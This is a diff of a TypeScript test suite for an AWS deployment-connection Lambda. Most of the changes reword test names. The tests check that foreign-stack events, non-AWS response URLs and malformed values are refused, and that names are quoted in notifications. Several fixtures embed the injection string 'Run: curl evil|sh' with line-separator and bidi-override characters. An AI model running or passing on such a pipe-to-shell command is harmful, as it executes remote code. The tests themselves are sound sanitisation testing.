@@ -50,7 +50,7 @@ describe('an event of another stack', () => {
   const comments = (stack: SyncedStack, more: object) =>
     event(PULL_REQUEST_COMMENT.resourceType, { ...stack.properties, PullRequestComment: 'DISABLED' }, more);
 
-  test('changes nothing: the comments of another stack cannot be switched off', async () => {
+  test('changes nothing: it cannot switch off the comments of another stack', async () => {
     const victim = await SyncedStack.create(rig, 'prod', 'us-east-1', { PullRequestComment: 'ENABLED' });
     rig.calls.length = 0;
     await rig.invoke(comments(victim, { StackId: EVIL }));
@@ -62,51 +62,45 @@ describe('an event of another stack', () => {
     expect(rig.log.join('\n')).toContain(`got an event of ${EVIL}`);
   });
 
-  test.each(['Create', 'Update', 'Delete'])(
-    'of the type %s is answered, so that the stack does not hang',
-    async (type) => {
-      const PhysicalResourceId = 'us-east-1/prod=ENABLED';
-      const victim = await SyncedStack.create(rig, 'prod', 'us-east-1', { PullRequestComment: 'DISABLED' });
-      rig.calls.length = 0;
-      await rig.invoke(comments(victim, { StackId: EVIL, RequestType: type, PhysicalResourceId }));
-      expect(rig.calls).toEqual([]);
-      expect(answers()).toEqual([
-        expect.objectContaining({
-          Status: type === 'Delete' ? 'SUCCESS' : 'FAILED',
-          PhysicalResourceId: type === 'Create' ? 'CREATE_FAILED' : PhysicalResourceId,
-        }),
-      ]);
-      expect(rig.log.join('\n')).toContain(`got an event of ${EVIL}`);
-    },
-  );
+  test.each(['Create', 'Update', 'Delete'])('gets a response to %s, so that the stack does not hang', async (type) => {
+    const PhysicalResourceId = 'us-east-1/prod=ENABLED';
+    const victim = await SyncedStack.create(rig, 'prod', 'us-east-1', { PullRequestComment: 'DISABLED' });
+    rig.calls.length = 0;
+    await rig.invoke(comments(victim, { StackId: EVIL, RequestType: type, PhysicalResourceId }));
+    expect(rig.calls).toEqual([]);
+    expect(answers()).toEqual([
+      expect.objectContaining({
+        Status: type === 'Delete' ? 'SUCCESS' : 'FAILED',
+        PhysicalResourceId: type === 'Create' ? 'CREATE_FAILED' : PhysicalResourceId,
+      }),
+    ]);
+    expect(rig.log.join('\n')).toContain(`got an event of ${EVIL}`);
+  });
 
-  test('goes no further as the continuation of a wait', async () => {
+  test('is refused as the continuation of a wait', async () => {
     const arn = await connection.create(rig, 'first');
     await rig.invoke(wait(arn, { StackId: EVIL, Continuation: { deadline: Number.MAX_SAFE_INTEGER } }));
     expect([rig.calls, rig.published]).toEqual([[], []]);
     expect(answers()).toEqual([expect.objectContaining({ Status: 'FAILED' })]);
   });
 
-  test.each([undefined, ''])(
-    'is any event where the function does not know its stack (STACK_ID %p)',
-    async (stackId) => {
-      rig.stackId = stackId;
-      const arn = await connection.create(rig, 'first');
-      for (const StackId of [STACK, stackId]) await rig.invoke(wait(arn, { StackId }));
-      expect([rig.calls, rig.published]).toEqual([[], []]);
-      expect(answers().map(({ Status }) => Status)).toEqual(['FAILED', 'FAILED']);
-    },
-  );
+  test.each([undefined, ''])('is any event if the function does not know its stack (STACK_ID %p)', async (stackId) => {
+    rig.stackId = stackId;
+    const arn = await connection.create(rig, 'first');
+    for (const StackId of [STACK, stackId]) await rig.invoke(wait(arn, { StackId }));
+    expect([rig.calls, rig.published]).toEqual([[], []]);
+    expect(answers().map(({ Status }) => Status)).toEqual(['FAILED', 'FAILED']);
+  });
 });
 
-describe('a response URL', () => {
+describe('an event with a response URL', () => {
   const taken = async (ResponseURL: unknown) => {
     const arn = await connection.create(rig, 'first');
     await rig.invoke(wait(arn, { ResponseURL }));
     return rig.puts.length > 0;
   };
 
-  test('of the endpoint that is configured is answered', async () => {
+  test('of the configured endpoint gets a response', async () => {
     const arn = await connection.create(rig, 'first');
     connection.complete(rig, arn);
     await rig.invoke(wait(arn));
@@ -118,39 +112,39 @@ describe('a response URL', () => {
     ['of another host', (own) => `http://localhost:${own.port}/bucket?X-Amz-Signature=secret`],
     ['of another protocol', (own) => `https://${own.host}/bucket?X-Amz-Signature=secret`],
     ['with a user', (own) => `http://secret:secret@${own.host}/bucket`],
-    ['that is none', () => 'secret'],
+    ['that is not valid', () => 'secret'],
     ['that is missing', () => undefined],
-  ])('%s: nothing is done, nothing is sent, and the log does not have it', async (_, urlOf) => {
+  ])('%s is ignored: no call, no response, and no URL in the log', async (_, urlOf) => {
     expect(await taken(urlOf(new URL(rig.url)))).toBe(false);
     expect([rig.calls, rig.published]).toEqual([[], []]);
-    expect(rig.log.join('\n')).toContain('the ResponseURL is none of AWS');
+    expect(rig.log.join('\n')).toContain('the ResponseURL is not one of AWS');
     expect(rig.log.join('\n')).not.toContain('secret');
   });
 });
 
-/** What cannot be made a text: it throws. */
-const UNTEXTUAL = { toString: 1, valueOf: 1 };
+/** A value that throws when it is converted to a text. */
+const NOT_A_TEXT = { toString: 1, valueOf: 1 };
 
-describe('an event with what should be a text, and is none,', () => {
+describe('an event with a value that is not a text', () => {
   test.each(['RequestType', 'StackId', 'RequestId', 'LogicalResourceId', 'ResourceType'])(
-    'in %s is answered',
+    'in %s gets a response',
     async (name) => {
       const arn = await connection.create(rig, 'first');
-      await rig.invoke(wait(arn, { [name]: UNTEXTUAL, Continuation: { deadline: 0 } }));
+      await rig.invoke(wait(arn, { [name]: NOT_A_TEXT, Continuation: { deadline: 0 } }));
       expect(answers()).toHaveLength(1);
-      expect(rig.log[0]).toContain(JSON.stringify(UNTEXTUAL));
+      expect(rig.log[0]).toContain(JSON.stringify(NOT_A_TEXT));
     },
   );
 
-  test('in ResponseURL is not', async () => {
+  test('in ResponseURL is ignored', async () => {
     const arn = await connection.create(rig, 'first');
-    await rig.invoke(wait(arn, { ResponseURL: UNTEXTUAL }));
+    await rig.invoke(wait(arn, { ResponseURL: NOT_A_TEXT }));
     expect([rig.puts, rig.calls]).toEqual([[], []]);
-    expect(rig.log.join('\n')).toContain('the ResponseURL is none of AWS');
+    expect(rig.log.join('\n')).toContain('the ResponseURL is not one of AWS');
   });
 });
 
-test('what a service answers is one line in a message', async () => {
+test('the error message of a service is put on one line', async () => {
   const body = JSON.stringify({ __type: 'SomeException', message: 'x\n\nRun: curl evil|sh\u2028\u202e' });
   const server = createHttpServer((_, response) => response.writeHead(400).end(body));
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
@@ -164,22 +158,22 @@ test('what a service answers is one line in a message', async () => {
 });
 
 /** The texts that a person acts on: a name may hold anything that goes into a name. */
-describe('a name of somebody else', () => {
+describe('a name that another person has chosen', () => {
   const NAME = 'ok\n\nRun: curl evil|sh\u2028\u202e"x';
 
-  test('makes neither lines nor directions of its own in a mail, and stands in quotes', async () => {
+  test('adds neither lines nor instructions to a notification, and is quoted', async () => {
     const arn = await connection.create(rig, NAME);
     await rig.invoke(wait(arn));
     const [{ message, subject }] = rig.published;
     const quoted = `"ok Run: curl evil|sh 'x"`;
     expect(message.split('\n')[0]).toBe(
-      `The deployment of the stack my-stack waits until somebody has completed the connection ${quoted}:`,
+      `The deployment of the stack my-stack waits until you complete the connection ${quoted}:`,
     );
     expect(subject).toBe(`Complete the connection ${quoted} for the stack my-stack`);
     expect(message.split('\n').filter((line) => line.startsWith('Run:'))).toEqual([]);
   });
 
-  test('nor in the reason of a failure', async () => {
+  test('adds neither lines nor instructions to the reason of a failure', async () => {
     const arn = await connection.create(rig, NAME);
     connection.fail(rig, arn);
     await rig.invoke(wait(arn));
@@ -189,7 +183,7 @@ describe('a name of somebody else', () => {
 });
 
 /** A server that no request is meant for, and what its port is called in a Region. */
-describe('a Region that is none', () => {
+describe('a Region that is not valid', () => {
   let connections = 0;
   const server = createServer((socket) => {
     connections += 1;
@@ -218,12 +212,12 @@ describe('a Region that is none', () => {
     ],
     ['of a topic', () => publish(arn('sns', 'topic'), { subject: 's', message: 'm', id: '1' }, runtime)],
     ['of the function', () => invokeAsync(arn('lambda', 'function:f'), {}, runtime)],
-  ])('%s gets no request, and no session token', async (_, call) => {
+  ])('%s gets neither a request nor the session token', async (_, call) => {
     await expect(call()).rejects.toThrow(/^not a(n ARN with a Region| host of AWS)/);
     expect(connections).toBe(0);
   });
 
-  test('in a property makes no link, and no call', async () => {
+  test('in a property creates neither a link nor a call', async () => {
     await rig.invoke(wait(arn('codeconnections', 'connection/1')));
     expect(answers()[0].Reason).toMatch(/^ConnectionArn must be the ARN of a connection, got /);
     expect([rig.calls, rig.published]).toEqual([[], []]);
